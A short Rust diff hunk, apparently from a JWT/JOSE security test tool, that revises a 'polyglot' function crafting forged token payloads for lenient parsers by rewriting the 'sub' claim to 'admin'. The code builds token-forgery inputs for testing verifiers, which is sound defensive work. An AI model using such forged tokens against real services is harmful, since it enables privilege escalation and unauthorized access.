@@ -52,12 +52,12 @@ fn unprotected(algorithm: &str, payload: &str, signature: &str) -> Vec<u8> {
 /// The payload for the lenient parser: the real claims, another subject.
 fn polyglot(lead: &str, header: &str, payload: &str, signature: &str) -> Vec<u8> {
     let claims = URL_SAFE_NO_PAD.decode(payload).unwrap_or_default();
-    let evil = match serde_json::from_slice::<serde_json::Value>(&claims) {
-        Ok(mut claims) => {
-            claims["sub"] = "admin".into();
-            URL_SAFE_NO_PAD.encode(claims.to_string())
+    let evil = match serde_json::from_slice(&claims) {
+        Ok(serde_json::Value::Object(mut claims)) => {
+            claims.insert("sub".to_owned(), "admin".into());
+            URL_SAFE_NO_PAD.encode(serde_json::Value::Object(claims).to_string())
         }
-        Err(_) => payload.to_owned(),
+        _ => payload.to_owned(),
     };
     let name = format!("{lead}{header}.{evil}.");
     format!(
